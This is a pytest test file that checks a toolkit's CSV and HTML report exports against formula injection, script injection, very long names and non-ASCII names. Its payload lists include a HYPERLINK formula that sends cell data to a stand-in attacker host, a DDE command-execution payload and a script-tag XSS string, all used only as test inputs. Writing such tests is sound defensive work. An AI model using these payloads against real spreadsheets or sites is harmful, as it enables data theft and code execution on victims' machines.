"""CSV safety end to end: names crafted as spreadsheet formulas, very long names and
non-ASCII names, taken from a real program's manifest, through a real load, the collision
report, CSV export and back.

Method names must be plain identifiers (they name directories), so the crafted text goes
where a program controls free text: the program name, and constant names/FQNs (a program
whose constant names do not match its .so fails to load, and the report still lists every
constant with the failure as the reason, so the crafted names reach the CSV).
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from test_errors import SAMPLE, clone, edit_manifest

from toolkit.core.errors import ManifestError
from toolkit.engine.session import load_program
from toolkit.reports.collision import REPORT_COLUMNS, collision_report, read_report, to_csv
from toolkit.reports.tabular import FORMULA_TRIGGERS
from toolkit.sources import open_program

CRAFTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    'a,b;"c"\r\nd',  # separators, quotes and a line break inside one cell
    "<script>alert(1)</script>",
    "x" * 10_000,  # very long
    "Gewichte.Ü.自注意力.веса.🙂",  # non-ASCII, beyond the BMP too
    "\u202e=1+1",  # right-to-left override in front of a formula
    "",
]


@pytest.fixture(scope="module")
def base(built_sample):
    return built_sample(SAMPLE)


def _check_csv(text: str, n_rows: int) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == REPORT_COLUMNS
    assert len(rows) == n_rows + 1, "a crafted cell split or merged rows"
    for row in rows[1:]:
        assert len(row) == len(REPORT_COLUMNS)
        for col, cell in zip(REPORT_COLUMNS, row):
            assert not cell.startswith(FORMULA_TRIGGERS), (col, cell[:40])
    return rows


@pytest.mark.parametrize("crafted", CRAFTED, ids=range(len(CRAFTED)))
def test_crafted_program_name_through_a_real_load(base, tmp_path, crafted):
    root = clone(base, tmp_path / "p")
    edit_manifest(root, lambda d: d.update(name=crafted))
    s = load_program(root, "fingerprint")
    assert s.status == "loaded"
    report = collision_report(s)
    assert set(report.frame["program"]) == {crafted}
    path = tmp_path / "report.csv"
    to_csv(report, path)
    text = path.read_text(encoding="utf-8")
    _check_csv(text, len(report.frame))
    back = read_report(path)
    pd.testing.assert_frame_equal(back.frame, report.frame)
    html = report._repr_html_()
    assert "<script>" not in html


def test_crafted_constant_names_through_a_failed_load(base, tmp_path):
    """Crafted internal names and FQNs for every constant: the load fails (they are not the
    .so's), and the report carries them and the error text that quotes them."""
    root = clone(base, tmp_path / "p")
    names = iter(c for c in CRAFTED if c)

    def craft(d):
        for m in d["methods"]:
            for c in m["constants"]:
                c["name"], c["fqn"] = next(names), next(names)

    edit_manifest(root, craft)
    program = open_program(root)
    constants = [c for m in program.methods for c in m.constants]
    crafted = {c.name for c in constants} | {c.fqn for c in constants}
    s = load_program(program, "decline-on-mismatch")
    assert s.status == "failed" and s.failed_method == "prefill"
    report = collision_report(s)
    assert set(report.frame["name"]) | set(report.frame["fqn"]) == crafted
    buf = io.StringIO()
    to_csv(report, buf)
    _check_csv(buf.getvalue(), len(report.frame))
    back = read_report(io.StringIO(buf.getvalue()))
    pd.testing.assert_frame_equal(back.frame, report.frame)


@pytest.mark.parametrize("where", ["name", "constant-fqn", "description"])
def test_unencodable_text_is_refused_when_the_manifest_is_read(base, tmp_path, where):
    """A lone surrogate (valid in JSON escapes, not in UTF-8) could never be written to a
    CSV or HTML file: the manifest is refused instead of the export failing later."""
    root = clone(base, tmp_path / "p")
    bad = "ok\ud800"

    def craft(d):
        if where == "name":
            d["name"] = bad
        elif where == "description":
            d["description"] = bad
        else:
            d["methods"][0]["constants"][0]["fqn"] = bad

    edit_manifest(root, craft)
    with pytest.raises(ManifestError, match="not valid Unicode"):
        open_program(root)


# ------------------------------------------------------------------ every CSV the CLI writes

HOSTILE = ("=1+1", "@SUM(1)", "+2+3", "-4+5")


def hostile_zoo(root, n: int = 1, constants: int = 3) -> list:
    """``n`` program directories named ``=HYPERLINK(i)``, program names ``=p<i>``, the first
    constants' FQNs formulas: quick to make (synthetic manifests, placeholder files of
    the recorded sizes: enough for a dry run, never loadable)."""
    import json

    from toolkit.build.synthetic import SyntheticSpec, write_synthetic

    out = []
    for i in range(n):
        manifest = write_synthetic(
            SyntheticSpec(methods=2, constants=constants, device="cpu", hidden=8, seed=i, name=f"=p{i}"),
            root / f"=HYPERLINK({i})",
        )
        d = json.loads(manifest.read_text())
        for m, fqn in zip(d["methods"], HOSTILE):
            m["constants"][0]["fqn"] = fqn
        manifest.write_text(json.dumps(d))
        for rel, rec in d["files"].items():
            (manifest.parent / rel).parent.mkdir(parents=True, exist_ok=True)
            (manifest.parent / rel).write_bytes(b"\0" * rec["bytes"])
        out.append(manifest.parent)
    return out


def test_every_cli_csv_neutralises_hostile_cells(tmp_path, monkeypatch, capsys):
    """report --dry-run, compare --dry-run and scan: the hostile program name, FQNs and paths
    reach each CSV (escaped, read back by csv), no cell starts a formula, and none of them is
    written by pandas' own writer."""
    from toolkit.cli import main

    (prog,) = hostile_zoo(tmp_path)
    monkeypatch.chdir(tmp_path)  # scan . : the path cells are the hostile folder names themselves
    monkeypatch.setattr(pd.DataFrame, "to_csv", lambda *a, **k: pytest.fail("a CSV bypassed the one writer"))
    runs = {
        "report": ["report", prog.name, "--dry-run", "--csv", "r.csv"],
        "compare": ["compare", prog.name, "--dry-run", "--csv", "c.csv"],
        "scan": ["scan", ".", "--policies", "fingerprint", "--csv", "s.csv", "--jobs", "1"],
    }
    escaped = {"report": {"'=p0", "'=1+1", "'@SUM(1)"}, "compare": set(), "scan": {"'=p0", "'=HYPERLINK(0)"}}
    for what, argv in runs.items():
        assert main(argv) in (0, 1), (what, capsys.readouterr().err)
        text = (tmp_path / argv[argv.index("--csv") + 1]).read_text(encoding="utf-8")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], what
        assert escaped[what] <= set(cells), what
    scanned = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
    assert set(scanned["path"]) == {"'=HYPERLINK(0)"} and set(scanned["program"]) == {"'=p0"}


def test_the_toolkit_has_one_csv_writer():
    """No module but reports/tabular.py writes CSV itself: every pandas ``to_csv`` call is a report's
    (CollisionReport.to_csv, which is tabular.write_table), and ``csv.writer`` is used only there."""
    import ast
    from pathlib import Path

    import toolkit

    bad = []
    package = Path(toolkit.__file__).parent
    for path in package.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            receiver = ast.unparse(node.func.value)
            if node.func.attr == "to_csv" and receiver not in ("report", "self.report"):
                bad.append(f"{path.name}:{node.lineno} {receiver}.to_csv")
            if (
                node.func.attr in ("writer", "DictWriter")
                and receiver == "csv"
                and path != package / "reports" / "tabular.py"
            ):
                bad.append(f"{path.name}:{node.lineno} csv.{node.func.attr}")
    assert not bad, "CSV written around tabular.write_table: " + ", ".join(bad)
